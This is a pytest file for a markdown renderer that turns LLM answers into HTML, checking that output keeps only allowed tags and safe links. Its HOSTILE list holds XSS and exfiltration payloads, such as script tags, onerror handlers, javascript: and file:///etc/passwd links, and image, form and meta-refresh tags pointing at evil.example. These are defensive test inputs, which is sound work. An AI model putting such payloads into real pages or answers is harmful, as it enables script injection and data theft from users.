"""What the LLM wrote becomes HTML that can neither run nor load anything."""

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from costeer.gateway.page.markdown import ATTRIBUTES, TAGS, render


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("*a* **b** ~~c~~", "<p><em>a</em> <strong>b</strong> <s>c</s></p>\n"),
        ("# T\n\n- 1\n- 2", "<h1>T</h1>\n<ul>\n<li>1</li>\n<li>2</li>\n</ul>\n"),
        ("```python\na < b\n```", "<pre><code>a &lt; b\n</code></pre>\n"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
        ("größer 日本 🙂", "<p>größer 日本 🙂</p>\n"),
    ],
)
def test_markdown(text: Any, html: Any) -> None:
    assert render(text) == html


def test_a_table() -> None:
    assert "<td>2</td>" in render("| a | b |\n|---|---|\n| 1 | 2 |")


def test_a_link_opens_elsewhere_and_says_nothing_of_where_it_was() -> None:
    html = render("[here](https://example.org/)")
    assert 'href="https://example.org/"' in html
    assert 'target="_blank"' in html
    assert "noreferrer" in html


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<form action=https://evil.example><input name=a></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '[x](https://a.example "\\" onmouseover=alert(1) ")',
    '```"><script>alert(1)</script>\n```',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


def assert_harmless(html: Any) -> None:
    for tag, attributes in re.findall(r"<\s*/?\s*([^\s>/]+)([^>]*)>", html):
        assert tag in TAGS, html
        for name in re.findall(r"([^\s=\"]+)=\"", re.sub(r'="[^"]*"', '=""', attributes)):
            assert name in ATTRIBUTES.get(tag, set()) | {"rel", "target"}, html
    for link in re.findall(r'href="([^"]*)"', html):
        assert link.startswith(("http://", "https://", "mailto:")) or ":" not in link, html


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_answer_is_harmless(text: Any) -> None:
    assert_harmless(render(text))


@given(st.lists(st.sampled_from(HOSTILE) | st.text(max_size=10), max_size=4))
def test_hostile_answers_are_harmless_together(parts: Any) -> None:
    assert_harmless(render("".join(parts)))


@pytest.mark.slow
def test_a_deep_answer_is_rendered() -> None:
    assert render(">" * 5000 + "x")
    assert render("[" * 5000)
    assert render("* " * 2000 + "x")
